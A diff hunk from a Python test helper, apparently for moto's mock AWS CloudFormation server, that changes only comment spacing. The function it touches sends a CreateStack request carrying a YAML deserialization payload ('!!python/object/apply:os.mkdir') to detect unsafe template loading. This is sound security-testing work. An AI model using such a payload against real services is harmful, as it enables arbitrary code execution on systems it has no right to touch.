@@ -30,7 +30,7 @@ def signed_for(service: str) -> dict[str, str]:
 def attack(url: str, folder: Path, headers: Mapping[str, str], path: str = "/") -> httpx.Response:
     """Send CloudFormation a template that makes a folder where it is loaded unsafely."""
     template = f"Resources: !!python/object/apply:os.mkdir ['{folder}']"
-    name = folder.parent.name.replace("_", "-")   # moto's stacks outlast its server
+    name = folder.parent.name.replace("_", "-")  # moto's stacks outlast its server
     stack = {"Action": "CreateStack", "Version": "2010-05-15", "StackName": name, "TemplateBody": template}
     return httpx.post(url + path, content=urlencode(stack), headers=FORM | headers, timeout=30)
 
